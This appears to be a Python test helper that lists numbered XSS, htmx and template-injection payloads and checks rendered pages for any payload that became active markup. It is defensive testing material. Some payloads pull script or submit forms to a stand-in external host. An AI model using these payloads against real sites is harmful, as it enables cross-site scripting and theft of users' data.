"""What somebody might type who means harm. Each has a mark with its number, by which it is found again in a page."""

from __future__ import annotations

from collections.abc import Iterator

from tests.tree import Page

MARK = "zqx"
# Texts in which Z stands for the mark.
_TEXTS = (
    "<Z>",
    "<script>Z()</script>",
    "<script src=//Z.example></script>",
    "</script><script>Z()</script>",
    "<img src=x onerror=Z()>",
    "<img src=`x` onerror='Z()'>",
    "<svg onload=Z()>",
    "<svg><script>Z()</script></svg>",
    "<svg><a xlink:href='javascript:Z()'><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,Z#x'/></svg>",
    "<math><mi xlink:href='javascript:Z()'>x</mi></math>",
    "<iframe src=javascript:Z()></iframe>",
    "<iframe srcdoc='<p Z=1>'></iframe>",
    "<object data=Z></object>",
    "<embed src=Z>",
    "<base href=//Z.example/>",
    "<link rel=stylesheet href=//Z.example>",
    "<meta http-equiv=refresh content='0;url=//Z.example'>",
    "<style>*{background:url(//Z.example)}</style>",
    "<p style='background:url(//Z.example)'>x</p>",
    "<form action=//Z.example><button>Save scan</button></form>",
    "</form><form action=//Z.example>",
    "<input name=Z autofocus onfocus=Z()>",
    "</textarea><img src=Z>",
    "</title><img src=Z>",
    "</option></select><img src=Z>",
    "</noscript><img src=Z>",
    "</svg><img src=Z>",
    "<!--<img src='--><img src=Z>",
    "--><img src=Z><!--",
    "<![CDATA[<img src=Z>]]>",
    "<?Z ?>",
    "<a href=javascript:Z()>x</a>",
    "<a href='java\tscript:Z()'>x</a>",
    "<a href='data:text/html,Z'>x</a>",
    "<button hx-post=/Z hx-trigger=load>x</button>",
    "<div hx-get=/Z hx-trigger='load'></div>",
    "<div hx-swap-oob='innerHTML:#notice' id=Z>x</div>",
    "<div data-hx-get=/Z data-hx-trigger=load></div>",
    "<div hx-on::load=Z()></div>",
    '" hx-get="/Z" hx-trigger="load',
    '" onmouseover="Z()',
    "' onmouseover='Z()",
    '" autofocus onfocus=Z() x="',
    '"><img src=Z>',
    "'><img src=Z>",
    '"><script>Z()</script>',
    "` onmouseover=`Z()",
    " onmouseover=Z() ",
    "javascript:Z()",
    "JaVaScRiPt:Z()//",
    "data:text/html,<script>Z()</script>",
    "//Z.example/x",
    "Z{{1337*3}}Z",
    "Z{{config}}Z",
    "Z{% include 'layout.html' %}Z",
    "Z${1337*3}Z #{1337*3} <%= 1337*3 %>",
    "&lt;img src=Z&gt;",
    "&#60;img src=Z&#62;",
    "\u2028<img src=Z>",
    "\u202e>Z=crs gmi<\u202c",
    "\ufeff<img src=Z>",
    "\uff1cimg src=Z\uff1e",
    "<img\x0csrc=Z>",
    "<scr\x00ipt>Z()</scr\x00ipt>",
    "Z" + "A" * 300 + "<img src=Z>",
)
PAYLOADS = [text.replace("Z", f"{MARK}{number}z") for number, text in enumerate(_TEXTS)]
LENGTH = 1900  # characters of a group: less than any of our fields takes


def groups() -> list[str]:
    """All payloads, several to a text, so that each text fits into a field."""
    found, text = [], ""
    for payload in PAYLOADS:
        if text and len(text) + len(payload) > LENGTH:
            found.append(text)
            text = ""
        text += payload + "\n"
    return [*found, text]


# What the browser acts on. In other attributes (value, aria-label, content, ...) a text is only a text.
ACTS = ("on", "hx-", "data-hx-", "style", "src", "action", "formaction", "xlink", "background", "poster")


def caught(html: str) -> Iterator[str]:
    """Each place in which a payload has become more than text."""
    page = Page(html)
    for element in page.elements:
        if MARK in element.tag:
            yield f"{element} is an element of the payload's"
        for name, value in element.attrs.items():
            if MARK in name:
                yield f"{element} has an attribute of the payload's: {name}"
            elif MARK in value and name.startswith(ACTS) and not value.startswith("/"):
                yield f"{element} acts on the payload: {name}={value[:60]!r}"
            elif MARK in value and name == "href" and not value.startswith(("/", "?", "#", "mailto:")):
                yield f"{element} leads where the payload says: {value[:60]!r}"
            elif MARK in value and name in ("id", "for", "class", "name"):
                yield f"{element} takes its {name} from the payload"
        if element.tag in ("script", "style", "iframe") and MARK in "".join(map(str, element.children)):
            yield f"{element} holds the payload"
    if f"z4011{MARK}" in html:
        yield "a template was run"
